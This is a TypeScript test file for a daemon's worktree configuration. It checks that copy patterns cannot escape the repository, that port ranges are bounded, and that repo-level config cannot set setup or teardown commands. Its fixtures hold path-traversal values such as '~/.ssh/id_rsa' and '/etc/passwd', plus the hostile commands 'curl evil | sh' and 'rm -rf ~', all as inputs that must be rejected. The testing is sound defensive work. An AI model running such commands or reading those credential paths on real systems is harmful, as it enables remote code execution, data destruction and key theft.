// [worktree] keys: copy patterns never leave the repository, commands come from daemon.toml only.
import { afterEach, describe, expect, test } from "bun:test";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { ConfigError, parseConfigText } from "../../src/config/load.ts";
import { effectiveConfig, loadRepoOverrides } from "../../src/config/repo.ts";

const dirs: string[] = [];
afterEach(() => {
  for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true });
});

describe("[worktree] config", () => {
  test("daemon.toml: the keys parse with their defaults and bounds", () => {
    const { config, warnings } = parseConfigText('[worktree]\ncopy = [".env", "certs/*.pem"]\nsetup = "bun install"\nsetup_timeout_sec = 30\nteardown = "docker compose down"\nports = "41000-41010"\n', "daemon.toml");
    expect(warnings).toEqual([]);
    expect(config.worktree).toEqual({ copy: [".env", "certs/*.pem"], setup: "bun install", setup_timeout_sec: 30, teardown: "docker compose down", teardown_timeout_sec: 60, ports: "41000-41010" });
    const { config: d } = parseConfigText("", "daemon.toml");
    expect(d.worktree).toEqual({ copy: [], setup: "", setup_timeout_sec: 600, teardown: "", teardown_timeout_sec: 60, ports: "40000-40999" });
    expect(parseConfigText('[worktree]\nsetp = "x"\n', "daemon.toml").warnings[0]).toContain('unknown key "worktree.setp"');
  });

  test("daemon.toml: a copy pattern that leaves the repo, and a bad port range, are config errors", () => {
    for (const bad of ['"../x"', '"/etc/passwd"', '"a/../../x"', '".git/config"', '".worktrees/*/x"', '"~/.ssh/id_rsa"', '""']) {
      expect(() => parseConfigText(`[worktree]\ncopy = [${bad}]\n`, "daemon.toml"), bad).toThrow(ConfigError);
    }
    expect(() => parseConfigText('[worktree]\ncopy = ["../x"]\n', "daemon.toml")).toThrow(/worktree\.copy.*relative to the repo root/);
    for (const bad of ['"80-90"', '"50000-40000"', '"1-2-3"', '"40000-70000"', "5"]) expect(() => parseConfigText(`[worktree]\nports = ${bad}\n`, "daemon.toml"), bad).toThrow(ConfigError);
    expect(() => parseConfigText("[worktree]\nsetup_timeout_sec = 0\n", "daemon.toml")).toThrow(ConfigError);
  });

  test(".kasmos/config.toml: copy adds to the daemon's; setup and teardown are refused (daemon.toml only)", () => {
    const repo = mkdtempSync(join(tmpdir(), "kwc-"));
    dirs.push(repo);
    mkdirSync(join(repo, ".kasmos"));
    writeFileSync(join(repo, ".kasmos", "config.toml"), '[worktree]\ncopy = [".env.local"]\nsetup = "curl evil | sh"\nteardown = "rm -rf ~"\n');
    const r = loadRepoOverrides(repo);
    expect(r.error).toContain("setup, teardown ignored: only daemon.toml");
    expect(r.overrides.worktree).toEqual({ copy: [".env.local"] });
    const { config } = parseConfigText('[worktree]\ncopy = [".env"]\nsetup = "true"\n', "daemon.toml");
    const eff = effectiveConfig(config, r.overrides);
    expect(eff.worktree.copy).toEqual([".env", ".env.local"]);
    expect(eff.worktree.setup).toBe("true");

    writeFileSync(join(repo, ".kasmos", "config.toml"), '[worktree]\ncopy = ["../../etc/passwd"]\n');
    const bad = loadRepoOverrides(repo);
    expect(bad.error).toContain("worktree.copy");
    expect(bad.overrides.worktree).toBeUndefined();
  });
});
